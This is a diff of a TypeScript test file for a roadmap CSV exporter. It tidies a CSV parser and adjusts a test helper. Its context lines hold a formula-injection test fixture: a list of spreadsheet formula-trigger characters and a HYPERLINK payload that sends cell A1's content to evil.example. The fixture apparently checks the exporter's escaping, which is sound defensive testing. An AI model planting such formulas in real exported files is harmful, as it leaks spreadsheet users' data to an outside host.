@@ -16,21 +16,33 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
-      else if (c === '"') quoted = false;
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"' && cell === '') quoted = true;
-    else if (c === ';') row.push(cell), (cell = '');
-    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
-    else cell += c;
+    else if (c === ';') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += c;
   }
-  if (cell || row.length) row.push(cell), rows.push(row);
+  if (cell || row.length) {
+    row.push(cell);
+    rows.push(row);
+  }
   return rows;
 }
 
 const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];
 const payload = (c: string) => `${c}HYPERLINK("http://evil.example/?d="&A1;"Нажмите")`;
-const item = (over: Partial<RoadmapItem>): RoadmapItem => ({ title: 'Мероприятие', deadline: { text: '', kind: 'none' } as RoadmapItem['deadline'], responsible: [], ...over });
+const item = (over: Partial<RoadmapItem>): RoadmapItem => ({ title: 'Мероприятие', deadline: { text: '', kind: 'unspecified' }, responsible: [], ...over });
 
 describe('roadmap CSV', () => {
   const roadmap = {
